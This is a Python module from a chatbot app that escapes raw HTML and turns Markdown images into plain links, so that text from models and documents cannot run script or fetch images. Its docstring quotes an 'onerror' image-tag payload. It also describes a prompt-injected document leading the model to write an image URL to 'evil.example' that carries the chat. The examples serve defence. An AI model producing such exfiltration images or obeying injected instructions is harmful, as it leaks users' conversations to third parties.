"""Text from outside the app is shown as text: its raw HTML and its images become inert.

The Chatbot renders Markdown, and Markdown lets raw HTML through; Gradio then
sanitises the HTML (no scripts, no ``on*`` handlers, no ``javascript:`` URLs;
``tests/test_sharing_browser.py`` shows that nothing runs). Text the app did
not write (an answer, its reasoning, a document's name or snippet) also goes
through ``inert_html`` first:

- each ``<`` that would open a tag, a comment or a declaration becomes ``&lt;``,
  so ``<img src=x onerror=...>`` is shown as those characters. That also keeps
  out look-alikes of the app's own footer buttons (Gradio's sanitiser keeps
  classes), forms and images made of raw HTML;
- each Markdown image is one the browser would fetch by itself, with no click:
  a prompt-injected document could make the model write
  ``![x](https://evil.example/?d=<the chat>)``. Images become links that show
  their alt text and host (``[🖼 x (evil.example)](…)``); reference-style images
  (``![x][ref]``) lose their ``!``; ``data:`` and other non-web images become
  plain text. Only http(s) images from ``image_hosts`` (``--allowed-image-hosts``)
  stay images. A host entry without a port allows every port of that host;
  ``host:port`` allows that port only.

Code (fenced, indented, inline) is left as it is: there ``<`` and ``![`` are
already text. Where this module and the page's Markdown parser (marked) could
disagree about what is code, it errs towards prose: an indented block after a
list item, or a line less indented than its fence, is treated as prose.

LaTeX: the page takes the regions between the component's ``latex_delimiters``
out *before* parsing the Markdown (and escapes their HTML when it puts them
back), so the same regions are taken out here first: a ``$$`` cannot then hide
a backtick that would pair differently on the page. ``<`` inside them still
becomes ``&lt;`` (the page decodes it before KaTeX reads it, so ``$$a&lt;b$$``
shows as ``a<b``).

``plain_markdown`` is for text that should be shown exactly, with no Markdown
at all (an error message in a notice).

Pure and linear in the length of the text (it runs on every streamed frame).
"""

from __future__ import annotations

import re
from collections.abc import Collection, Mapping, Sequence
from urllib.parse import urlsplit

LatexDelimiters = Sequence[Mapping[str, str | bool]]

CHAT_LATEX_DELIMITERS: list[dict[str, str | bool]] = [
    {"left": "$$", "right": "$$", "display": True},
    {"left": "\\[", "right": "\\]", "display": True},
    {"left": "\\(", "right": "\\)", "display": False},
]
"""The Chatbot's ``latex_delimiters`` (``ui.layout`` passes these to it)."""

MARKDOWN_LATEX_DELIMITERS: list[dict[str, str | bool]] = [
    {"left": "$$", "right": "$$", "display": True},
]
"""``gr.Markdown``'s default ``latex_delimiters``."""

IMAGE_MARK = "🖼"
_TOO_LONG = -2

_FENCE_OPEN = re.compile(r"^( {0,3}|\s*)(`{3,}(?=[^`\n]*$)|~{3,})")
_INDENTED = re.compile(r"^(?: {4}|\t)")
_LIST_ITEM = re.compile(r"^\s*(?:[-+*]|\d{1,9}[.)])(?:[ \t]|$)")
_TAG_START = re.compile(r"[A-Za-z/!?]")
_TAG_OPENER = re.compile(r"<(?=[A-Za-z/!?])")
_MARKER = "\uffff"  # a noncharacter: stands for a LaTeX region while the rest is scanned
_MARKED = re.compile(_MARKER + r"(\d+)" + _MARKER)
_SCAN_LIMIT = 4096  # characters an image's label or destination may span; longer: defused
_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
# An image URL that may load: http(s), a plain host (no user info, no percent or
# backslash tricks that browsers and Python read differently), and nothing in the
# rest that could end the Markdown destination.
_LOADABLE = re.compile(
    r"(?i)https?://(?:[a-z0-9.-]+|\[[0-9a-f:.]+\])(?::\d{1,5})?(?:[/?#][!#-&*-;=?-\[\]-_a-~]*)?"
)


def inert_html(
    markdown: str,
    *,
    image_hosts: Collection[str] = (),
    latex_delimiters: LatexDelimiters = MARKDOWN_LATEX_DELIMITERS,
) -> str:
    """``markdown`` with raw HTML and images outside code turned into visible text or links.

    ``latex_delimiters`` must be those of the component that shows the text.
    """
    if "<" not in markdown and "![" not in markdown:
        return markdown
    text, regions = _take_out_latex(markdown.replace(_MARKER, "\ufffd"), latex_delimiters)
    scanner = _Scanner(text, frozenset(host.lower() for host in image_hosts))
    out = scanner.blocks()
    if not regions:
        return out

    def restore(found: re.Match[str]) -> str:  # a region may hold an earlier one's marker
        return _MARKED.sub(restore, _TAG_OPENER.sub("&lt;", regions[int(found[1])]))

    return _MARKED.sub(restore, out)


_CODE_OR_STAR = re.compile(r"(?ms)^ {0,3}(`{3,}|~{3,}).*?(?:^ {0,3}\1[^\n]*$|\Z)|(`+)[^`]*?\2|\*")


def stars_as_text(markdown: str) -> str:
    """``markdown`` with every ``*`` outside code escaped: a model's reasoning is written
    as text, and "a * b * c" in it must not turn into emphasis."""
    return _CODE_OR_STAR.sub(lambda found: "\\*" if found[0] == "*" else found[0], markdown)


def plain_markdown(text: str) -> str:
    """``text`` as Markdown that shows exactly these characters: no markup, links or images."""
    return _PUNCTUATION.sub(lambda found: "\\" + found[0], text)


def image_allowed(url: str, image_hosts: Collection[str]) -> bool:
    """Whether the image at ``url`` may load: http(s) from one of ``image_hosts``."""
    if not image_hosts or not _LOADABLE.fullmatch(url):
        return False
    parts = urlsplit(url)
    try:
        port = parts.port or (443 if parts.scheme.lower() == "https" else 80)
    except ValueError:
        return False
    host = (parts.hostname or "").lower()
    for entry in image_hosts:
        allowed = urlsplit("//" + entry.strip().lower().split("://", 1)[-1])
        try:
            allowed_port = allowed.port
        except ValueError:
            continue
        if allowed.hostname == host and allowed_port in (None, port):
            return True
    return False


def _take_out_latex(text: str, delimiters: LatexDelimiters) -> tuple[str, list[str]]:
    """Replace each LaTeX region by a marker, as the page does before parsing Markdown."""
    regions: list[str] = []

    def keep(found: re.Match[str]) -> str:
        regions.append(found[0])
        return f"{_MARKER}{len(regions) - 1}{_MARKER}"

    for delimiter in delimiters:
        left, right = str(delimiter["left"]), str(delimiter["right"])
        text = re.sub(f"{re.escape(left)}([\\s\\S]+?){re.escape(right)}", keep, text)
    return text, regions


class _Scanner:
    """One pass over the text: blocks of code are copied, prose is made inert."""

    def __init__(self, text: str, image_hosts: frozenset[str]) -> None:
        self.text = text
        self.image_hosts = image_hosts
        self.has_definitions = "]:" in text  # else no reference image can resolve
        self.budget = 0  # characters the image look-aheads may still scan (``_inline``)

    def blocks(self) -> str:
        out: list[str] = []
        prose: list[str] = []
        fence: str | None = None  # the run of ` or ~ that opened the current fenced block
        fence_indent = 0
        after_blank = True
        in_indented = False
        seen_list = False  # marked reads indented lines under a list item as the item's text
        for line in self.text.splitlines(keepends=True):
            blank = not line.strip()
            indent = len(line) - len(line.lstrip(" "))
            if fence is not None:
                closer = f" {{0,3}}{re.escape(fence)}[~`]* *$"
                if re.match(closer, line) or re.match(closer, line[fence_indent:]):
                    out.append(line)
                    fence = None
                    after_blank = False
                    continue
                if blank or indent >= fence_indent:
                    out.append(line)
                    after_blank = blank
                    continue
                fence = None  # a list item's fence ends with the item: prose again
            opened = _FENCE_OPEN.match(line)
            if opened and (opened.group(1).strip(" ") or (indent > 3 and not seen_list)):
                opened = None  # a tab, or indented code
            if opened:
                out.append(self._inline("".join(prose)))
                prose = []
                out.append(line)
                fence, fence_indent = opened.group(2), indent
            elif (not blank and not seen_list and _INDENTED.match(line)
                  and (after_blank or in_indented)):
                out.append(self._inline("".join(prose)))
                prose = []
                out.append(line)
                in_indented = True
            else:
                if not blank:
                    in_indented = False
                    seen_list = seen_list or bool(_LIST_ITEM.match(line))
                (out if in_indented else prose).append(line)
            after_blank = blank
        out.append(self._inline("".join(prose)))
        return "".join(out)

    def _inline(self, text: str) -> str:
        """Escape tag openers and defuse images in a run of prose, skipping code spans."""
        if "<" not in text and "![" not in text:
            return text
        out: list[str] = []
        no_closer: dict[str, int] = {}  # backtick run -> a position after which it never occurs
        self.budget = 4 * len(text) + 8 * _SCAN_LIMIT
        i, end = 0, len(text)
        while i < end:
            char = text[i]
            if char == "`":
                run = _run_length(text, i)
                close = _find_closer(text, "`" * run, i + run, no_closer)
                stop = close + run if close >= 0 else i + run
                out.append(text[i:stop])
                i = stop
                continue
            if char == "\\" and i + 1 < end:
                out.append(text[i:i + 2])  # an escaped character is already text
                i += 2
                continue
            if char == "!" and text.startswith("[", i + 1):
                shown, i = self._image(text, i)
                out.append(shown)
                continue
            if char == "<" and i + 1 < end and _TAG_START.match(text, i + 1):
                out.append("&lt;")
            else:
                out.append(char)
            i += 1
        return "".join(out)

    def _image(self, text: str, start: int) -> tuple[str, int]:
        """What to show for the ``![`` at ``start``, and where scanning goes on.

        Each look ahead is charged to ``budget``; once it is spent (a text built to make
        the scans quadratic), every further ``![`` is defused without looking.
        """
        defused = IMAGE_MARK + " ", start + 1  # "🖼 [..." can be a link, never an image
        limit = min(_SCAN_LIMIT, self.budget)
        if limit <= 0:
            return defused
        label_end, reached = _label_end(text, start + 2, limit)
        self.budget -= reached - start
        if label_end == _TOO_LONG:
            return defused
        if label_end < 0:
            return "!", start + 1  # no closing bracket: no image
        alt = text[start + 2:label_end]
        inline = _inline_destination(text, label_end + 1, limit)
        self.budget -= inline[1] - label_end if inline else limit
        if inline is None:  # a reference image if the text defines its label; or unsure
            if self.has_definitions or text.startswith("(", label_end + 1):
                return defused
            return "!", start + 1
        url, stop = inline
        if image_allowed(url, self.image_hosts):
            return f"![{_literal(alt)}]({url})", stop
        return _as_link(alt, url), stop


def _as_link(alt: str, url: str) -> str:
    """An image the browser will not fetch: a link to it for the web, else its text."""
    label = _literal(alt) or "image"
    if not _LOADABLE.fullmatch(url):
        scheme = url.split(":", 1)[0].lower() if ":" in url else ""
        what = "embedded image" if scheme == "data" else "image"
        return f"{IMAGE_MARK} {label} ({what} not shown)"
    host = (urlsplit(url).netloc or "").lower()
    return f"[{IMAGE_MARK} {label} ({_literal(host)})](<{url}>)"


def _literal(text: str) -> str:
    """``text`` (Markdown source) on one line, every punctuation character escaped."""
    unescaped = _ESCAPED.sub(lambda found: found[1], " ".join(text.split()))
    return plain_markdown(unescaped)


def _label_end(text: str, start: int, limit: int) -> tuple[int, int]:
    """The ``]`` that closes an image's ``[`` (opened just before ``start``), or -1, or
    ``_TOO_LONG`` past ``limit`` characters; and where the search stopped.

    Like marked's label: backslash escapes and code spans are skipped, brackets nest;
    a blank line ends the search.
    """
    depth = 0
    i, end = start, min(len(text), start + limit)
    while i < end:
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "`":
            close = text.find("`", i + 1, end)
            if close >= 0 and "\n\n" not in text[i:close]:
                i = close + 1
                continue
        elif char == "[":
            depth += 1
        elif char == "]":
            if depth == 0:
                return i, i
            depth -= 1
        elif char == "\n" and text.startswith("\n", i + 1):
            return -1, i
        i += 1
    return (_TOO_LONG if end < len(text) else -1), end


def _inline_destination(text: str, start: int, limit: int) -> tuple[str, int] | None:
    """(URL, end) of ``(url "title")`` at ``start``; None if there is none within ``limit``."""
    if not text.startswith("(", start):
        return None
    text = text[:start + limit]  # longer: not parsed, so defused
    i = _skip_spaces(text, start + 1)
    if text.startswith("<", i):
        close = i + 1
        while close < len(text) and text[close] not in "<>\n":
            close += 2 if text[close] == "\\" else 1
        if not text.startswith(">", close):
            return None
        url, i = text[i + 1:close], close + 1
    else:
        begin, depth = i, 0
        while i < len(text) and text[i] > " ":
            if text[i] == "\\":
                i += 1
            elif text[i] == "(":
                depth += 1
            elif text[i] == ")":
                if depth == 0:
                    break
                depth -= 1
            i += 1
        url = text[begin:i]
    after = _skip_spaces(text, i)
    if after > i and after < len(text) and text[after] in "\"'(":
        closer = ")" if text[after] == "(" else text[after]
        close = after + 1
        while close < len(text) and text[close] != closer:
            close += 2 if text[close] == "\\" else 1
        after = _skip_spaces(text, close + 1)
    if not text.startswith(")", after):
        return None
    return url, after + 1


def _skip_spaces(text: str, i: int) -> int:
    while i < len(text) and text[i] in " \t\n":
        i += 1
    return i


def _run_length(text: str, start: int) -> int:
    end = start
    while end < len(text) and text[end] == text[start]:
        end += 1
    return end - start


def _find_closer(text: str, closer: str, start: int, no_closer: dict[str, int]) -> int:
    """Where a backtick run of exactly ``closer``'s length next occurs from ``start``, or -1.

    Misses are remembered, so a text full of unmatched openers stays linear.
    """
    if start >= no_closer.get(closer, len(text) + 1):
        return -1
    match = re.compile(f"(?<!`){closer}(?!`)").search(text, start)
    found = match.start() if match else -1
    if found < 0:
        no_closer[closer] = start
    return found
